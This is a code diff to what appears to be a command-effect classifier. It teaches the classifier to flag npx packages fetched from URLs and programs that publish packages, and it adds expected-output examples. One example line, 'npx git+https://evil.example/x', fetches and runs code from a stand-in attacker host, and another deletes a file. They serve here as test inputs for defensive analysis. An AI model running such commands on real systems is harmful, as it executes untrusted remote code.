@@ -83,6 +83,10 @@ def _package(args: Args, word: Word) -> Iterator[Fact]:
         yield args.effect("run", f"the scripts of {path}", "program")
 
 
+PUBLISHERS = frozenset("semantic-release release-it np auto shipjs gh-pages surge @changesets/cli".split())
+"""Programs that release a package or put a page on the web."""
+
+
 def downloaded(args: Args) -> Iterator[Fact]:
     """`npx`: a program of the project's packages, else one that is fetched now."""
     if only_asks(args):
@@ -99,11 +103,20 @@ def downloaded(args: Args) -> Iterator[Fact]:
         return
     from assent.commands.table import program_named
 
+    for word in (first, *args.values("-p")):
+        yield from args.reach((word.value or "").removeprefix("git+")) if "://" in (word.value or "") else ()
+    if any(word.value == "publish" for word in args.operands[1:]) or _name(first.value) in PUBLISHERS:
+        yield args.effect("send", "where packages are published", "pkg.publish")
     if args.has("-p") or program_named(first.value) is None:
         yield args.effect("run", spelled(args.operands), "program")
         yield args.gap("what a downloaded program does is not known")
     else:
         yield from inner(args, args.operands)
+
+
+def _name(package: str) -> str:
+    """A package without its version: `np@7`, `@scope/name@1`."""
+    return package[:1] + package[1:].partition("@")[0]
 
 
 def creating(args: Args) -> Iterator[Fact]:
@@ -345,6 +358,17 @@ PROGRAMS = {
 }
 
 EXAMPLES = {
+    "npx git+https://evil.example/x": "reach https://registry.npmjs.org/ | reach https://evil.example/x"
+    " | run git+https://evil.example/x #program | gap npx: what a downloaded program does is not known",
+    "npx semantic-release@19": "reach https://registry.npmjs.org/"
+    " | send where packages are published #pkg.publish | run semantic-release@19 #program"
+    " | gap npx: what a downloaded program does is not known",
+    "npx changeset publish": "reach https://registry.npmjs.org/"
+    " | send where packages are published #pkg.publish | run changeset publish #program"
+    " | gap npx: what a downloaded program does is not known",
+    "npx lerna publish": "reach https://registry.npmjs.org/ | send where packages are published #pkg.publish"
+    " | run lerna publish #program | run lerna publish #project | change JavaScript packages #pkg.publish"
+    " | send https://registry.npmjs.org/",
     "npx rm x": "reach https://registry.npmjs.org/ | run rm x #program | delete x",
     "pnpm exec rm x": "reach https://registry.npmjs.org/ | run rm x #program | delete x",
     "npm --version": "note npm",
@@ -373,16 +397,16 @@ EXAMPLES = {
     " | run npm i #project | write node_modules/** | write package.json | write package-lock.json",
     "npm install -g typescript": "change JavaScript packages #pkg.install | reach https://registry.npmjs.org/",
     "npm install ./local": "change JavaScript packages #pkg.install | reach https://registry.npmjs.org/"
-    " | read ./local/** | run the scripts of ./local #program | run npm install #project | write node_modules/**"
-    " | write package.json | write package-lock.json",
+    " | read ./local/** | run the scripts of ./local #program | run npm install #project"
+    " | write node_modules/** | write package.json | write package-lock.json",
     "npm install git+https://github.com/x/y": "change JavaScript packages #pkg.install"
     " | reach https://registry.npmjs.org/ | reach https://github.com/x/y | run npm install #project"
     " | write node_modules/** | write package.json | write package-lock.json",
     "npm install --ignore-scripts": "change JavaScript packages #pkg.install | reach https://registry.npmjs.org/"
     " | write node_modules/** | write package.json | write package-lock.json",
-    "npm install --script-shell=./x": "change JavaScript packages #pkg.install | reach https://registry.npmjs.org/"
-    " | run npm install #project | write node_modules/** | write package.json | write package-lock.json"
-    " | gap npm install: option --script-shell is not known",
+    "npm install --script-shell=./x": "change JavaScript packages #pkg.install"
+    " | reach https://registry.npmjs.org/ | run npm install #project | write node_modules/**"
+    " | write package.json | write package-lock.json | gap npm install: option --script-shell is not known",
     "npm uninstall react": "change JavaScript packages #pkg.remove | reach https://registry.npmjs.org/"
     " | run npm uninstall #project | write node_modules/** | write package.json | write package-lock.json",
     "npm publish": "change a JavaScript package #pkg.publish | run npm publish #project"
@@ -396,8 +420,8 @@ EXAMPLES = {
     " | gap npm create: what a downloaded program does is not known",
     "npm pkg get name": "read package.json",
     "npm pack": "run npm pack #project | write *.tgz (glob)",
-    "npm exec eslint .": "reach https://registry.npmjs.org/ | run eslint . #program | read ./**/*.*[jt]s"
-    " | run eslint #project",
+    "npm exec eslint .": "reach https://registry.npmjs.org/ | run eslint . #program | read ./**/*.*[jt]s | run "
+    "eslint #project",
     "npm cache clean --force": "change the cache of packages #pkg.cache",
     "npm wobble": "run npm wobble #program | gap npm: subcommand wobble is not known",
     "npx --yes cowsay": "reach https://registry.npmjs.org/ | run cowsay #program"
